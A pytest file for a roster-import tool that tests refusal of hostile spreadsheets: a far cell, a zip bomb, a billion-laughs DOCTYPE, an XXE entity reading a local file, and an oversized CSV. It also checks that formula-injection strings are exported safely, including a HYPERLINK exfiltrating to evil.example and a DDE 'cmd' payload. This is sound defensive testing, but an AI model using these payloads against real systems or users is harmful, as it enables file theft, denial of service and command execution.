"""Hostile roster files (issue 12 #7 and #8): a workbook claiming a cell at XFD1048576,
a zip bomb, billion laughs and an external entity are refused with one line and exit 2,
quickly and without the memory they ask for; the export writes no live formula."""

from __future__ import annotations

import csv
import json
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from bot.cli import main
from campaign.roster import roster_rows, validate
from campaign.roster_files import read_roster, write_roster
from tests.test_roster import BASE

SECRET = "root:x:0:0:do-not-leak"


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "fieldbot.toml"
    database = json.dumps(str(tmp_path / "data" / "fieldbot.sqlite3"))
    path.write_text(f"[storage]\ndatabase = {database}\n", encoding="utf-8")
    return path


def _workbook(path: Path) -> Path:
    wb = Workbook()
    wb.remove(wb.active)  # type: ignore[arg-type]
    for name, rows in BASE.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(row)
    wb.save(path)
    return path


def _with_doctype(path: Path, doctype: bytes, entity: bytes) -> None:
    """Put a DOCTYPE into the teams sheet and the entity in place of a cell's text."""
    member = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(path) as z:
        items = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in items:
            if name == member:
                data = data.replace(b">T1<", b">" + entity + b"<", 1)
                if data.startswith(b"<?xml"):
                    head, _, rest = data.partition(b"?>")
                    data = head + b"?>" + doctype + rest
                else:
                    data = doctype + data
                assert entity in data
            z.writestr(name, data)


def far_cell(tmp: Path) -> Path:
    path = _workbook(tmp / "far.xlsx")
    wb = load_workbook(path)
    wb["cadres"]["XFD1048576"] = "x"
    wb.save(path)
    return path


def zip_bomb(tmp: Path) -> Path:
    path = _workbook(tmp / "bomb.xlsx")
    with zipfile.ZipFile(path) as z:
        items = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in items:
            if name != "xl/worksheets/sheet3.xml":
                z.writestr(name, data)
        with z.open("xl/worksheets/sheet3.xml", "w", force_zip64=True) as out:
            out.write(b'<?xml version="1.0"?><worksheet><sheetData>')
            block = b" " * (1 << 20)
            for _ in range(200):  # 200 MB of blanks, about 200 KB packed
                out.write(block)
            out.write(b"</sheetData></worksheet>")
    return path


LAUGHS = b"""<!DOCTYPE lolz [
<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>"""


def billion_laughs(tmp: Path) -> Path:
    path = _workbook(tmp / "laughs.xlsx")
    _with_doctype(path, LAUGHS, b"&lol9;")
    return path


def external_entity(tmp: Path) -> Path:
    secret = tmp / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    path = _workbook(tmp / "xxe.xlsx")
    _with_doctype(path, f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>'.encode(), b"&xxe;")
    return path


def wide_csv(tmp: Path) -> Path:
    folder = tmp / "wide"
    folder.mkdir()
    for name, rows in BASE.items():
        with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as f:
            writer = csv.writer(f)
            for row in rows:
                writer.writerow(row)
    with (folder / "places.csv").open("a", encoding="utf-8", newline="") as f:
        f.write("," * 100_000 + "\n")
    return folder


@pytest.mark.parametrize(
    "make",
    [far_cell, zip_bomb, billion_laughs, external_entity, wide_csv],
    ids=lambda f: f.__name__,
)
def test_a_hostile_file_is_refused_in_one_line(
    make: object,
    config: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = make(tmp_path)  # type: ignore[operator]
    started = time.monotonic()
    assert main(["--config", str(config), "roster", "import", str(path)]) == 2
    assert time.monotonic() - started < 30
    captured = capsys.readouterr()
    assert captured.out == ""
    assert len(captured.err.strip().splitlines()) == 1, captured.err
    assert captured.err.startswith("fieldbot: ") and "Traceback" not in captured.err
    assert SECRET not in captured.err


# --- #8: the export writes no live formula ---------------------------------------------

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"C2")'
EVIL_PLACE = "=cmd|' /C calc'!A0"


def _evil_roster() -> object:
    data = {k: [list(r) for r in v] for k, v in BASE.items()}
    data["cadres"][1][0] = EVIL_NAME
    data["places"][1][2] = EVIL_PLACE
    data["places"][2][2] = "+1 社区"
    data["places"][3][2] = "@SUM(1)"
    data["places"][4][2] = "-2 户"
    checked = validate(data)
    assert checked.roster is not None, checked.errors
    return checked.roster


def test_xlsx_export_writes_strings_not_formulas(tmp_path: Path) -> None:
    path = write_roster(tmp_path / "r.xlsx", roster_rows(_evil_roster()))  # type: ignore[arg-type]
    wb = load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [c.value for c in cells]
    assert EVIL_NAME in names and EVIL_PLACE in names  # kept as text, exactly
    assert validate(read_roster(path)).roster == _evil_roster()  # and read back the same


def test_csv_export_neutralises_leading_formula_characters(tmp_path: Path) -> None:
    folder = write_roster(tmp_path / "out", roster_rows(_evil_roster()))  # type: ignore[arg-type]
    cells = [
        cell
        for name in ("cadres", "places")
        for row in csv.reader((folder / f"{name}.csv").open(encoding="utf-8-sig"))
        for cell in row
    ]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + EVIL_NAME in cells and "'" + EVIL_PLACE in cells
